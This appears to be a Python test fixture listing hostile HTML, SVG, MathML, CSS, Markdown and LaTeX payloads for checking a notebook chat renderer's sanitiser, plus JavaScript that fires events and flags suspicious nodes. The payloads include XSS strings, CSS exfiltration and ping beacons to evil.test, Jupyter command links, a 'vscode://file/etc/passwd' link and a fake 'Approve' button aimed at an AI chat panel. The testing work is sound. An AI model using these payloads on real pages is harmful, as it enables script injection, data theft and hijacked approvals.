"""Hostile texts for a whole page: those of the renderer's tests, and what only a page can run."""

import sys
from pathlib import Path

# the list of the renderer's tests, which stand beside this folder
sys.path.append(str(Path(__file__).parents[1] / "render"))

from attacks import ATTACKS

IN_A_PAGE = [
    # events that need no hand, or the hand of somebody who reads
    "<svg><set attributeName=onmouseover to=alert(1)></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) begin=0s></svg>",
    "<svg><image href='https://evil.test/p.png'/></svg>",
    "<svg><feImage href='https://evil.test/p.png'/></svg>",
    "<svg><title><style><img src=x onerror=alert(1)></style></title></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title='</style>"
    "<img src=x onerror=alert(1)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<p id=x onanimationstart=alert(1) style='animation:x'>x</p>",
    "<div contenteditable autofocus onfocus=alert(1)>x</div>",
    "<a href=# onclick=alert(1) autofocus tabindex=1 onfocus=alert(1)>x</a>",
    "<input type=hidden oncontentvisibilityautostatechange=alert(1) style=content-visibility:auto>",
    "<button popovertarget=p>x</button><div popover id=p onbeforetoggle=alert(1)>x</div>",
    "<video><track default src='https://evil.test/t.vtt' oncuechange=alert(1)></video>",
    "<img src=x loading=eager onload=alert(1) onerror=alert(1)>",
    "<img usemap=#m src=x><map name=m><area href=javascript:alert(1) shape=default></map>",
    "<link rel=dns-prefetch href='//evil.test'><link rel=preconnect href='//evil.test'>",
    "<link rel=modulepreload href='//evil.test/x.js'>",
    "<script type=importmap>{\"imports\":{\"x\":\"//evil.test/x.js\"}}</script>",
    "<script type=speculationrules>{\"prefetch\":[{\"urls\":[\"//evil.test\"]}]}</script>",
    "<object type=text/html data='https://evil.test'></object>",
    "<embed type=image/svg+xml src='https://evil.test/x.svg'>",
    "<iframe credentialless src='https://evil.test'></iframe>",
    "<fencedframe src='https://evil.test'></fencedframe>",
    "<style>@font-face{font-family:x;src:url(https://evil.test/f)}*{font-family:x}</style>",
    "<style>input[value^=a]{background:url(https://evil.test/?a)}</style>",
    "<div style='background-image:image-set(url(https://evil.test/p.png) 1x)'>x</div>",
    "<div style='list-style:url(https://evil.test/p.png)'>x</div>",
    "<div style='cursor:url(https://evil.test/p.png),auto'>x</div>",
    "<table background='https://evil.test/p.png'><td background='https://evil.test/q.png'>x</table>",
    "<a href=x ping='https://evil.test/ping'>x</a>",
    "<img src=x attributionsrc='https://evil.test/a'>",
    "<template shadowrootmode=open><script>alert(1)</script></template>",
    "<slot onslotchange=alert(1)></slot>",
    # names and hooks of the page
    "<img name=getElementById><img name=createElement><form id=document><input name=body>",
    "<a id=jupyterapp></a><a id=jupyterapp name=commands href='cid:x'></a>",
    "<section class=nbc aria-label=nbchat><textarea aria-label=Message>x</textarea></section>",
    "<div class=nbc-live><button class='nbc-word nbc-yes'>Approve</button></div>",
    "<div class='lm-Menu-item' data-type=command data-command='terminal:create-new'>x</div>",
    "<a data-commandlinker-command=notebook:insert-cell-below data-commandlinker-args='{}'>x</a>",
    "<div data-lm-suppress-shortcuts data-mime-type=application/javascript>alert(1)</div>",
    "<script type=text/x-mathjax-config>alert(1)</script>",
    "[x](command:notebook:run-all)",
    "[x](vscode://file/etc/passwd)",
    "[x](jupyter:terminal)",
    "[x](/lab?reset&clone=x)",
    # formulas
    "$\\href{javascript:alert(1)}{\\text{click}}$",
    "$\\text{<img src=x onerror=alert(1)>}$",
    "$$\\html{<script>alert(1)</script>}$$",
    "$$\\includegraphics{https://evil.test/p.png}$$",
    "\\(\\url{https://evil.test}\\) \\[\\def\\x{\\x\\x}\\x\\]",
    "$\\color{red;background:url(https://evil.test)}{x}$",
    "$\\mathrm{</annotation></math><img src=x onerror=alert(1)>}$",
    # what is only long, deep or odd
    "<div>" * 2_000,
    "> " * 500 + "x",
    "*" * 3_000 + "x",
    "[" * 1_500 + "](x)",
    "{{7*7}} {% raw %} #{alert(1)} <%= alert(1) %> {alert(1)} `${alert(1)}`",
    "__proto__",
    "constructor",
    "toString",
    "a\u200b\u200c\u200d\u2060b\ufeffc",
]  # fmt: skip

PAYLOADS = list(dict.fromkeys([*ATTACKS, *IN_A_PAGE]))

# events a curious reader, or the page itself, may send to what is shown
PROVOKE = """(root) => {
  const kinds = ['mouseover', 'mouseenter', 'pointerover', 'mousemove', 'focus', 'toggle', 'load',
    'error', 'animationstart', 'begin', 'click'];
  for (const node of root.querySelectorAll('*')) {
    if (node.closest('a, button, input, textarea, select')) continue;
    for (const kind of kinds) node.dispatchEvent(new Event(kind, {bubbles: false}));
  }
}"""
# every address in the page, and everything that could run or load
SUSPECTS = """(root) => {
  const bad = [];
  for (const node of root.querySelectorAll('*')) {
    if (/^(script|iframe|object|embed|form|base|link|meta|video|audio|style)$/i
      .test(node.localName))
      bad.push(node.outerHTML.slice(0, 200));
    for (const {name, value} of node.attributes) {
      const outside = /^(src|srcset|poster|background|ping|formaction|action|data)$/i.test(name)
        && !/^data:image\\/(png|jpeg|gif|webp);base64,/.test(value);
      const link = /href$/i.test(name)
        && !/^(https?:\\/\\/[\\w.[\\]:-]+([/?#]|$)|mailto:)/i.test(value);
      const style = name === 'style' && /url\\(/i.test(value);
      if (/^on|^data-commandlinker/i.test(name) || outside || link || style)
        bad.push(`${node.localName} ${name}=${value}`.slice(0, 200));
    }
  }
  return bad;
}"""
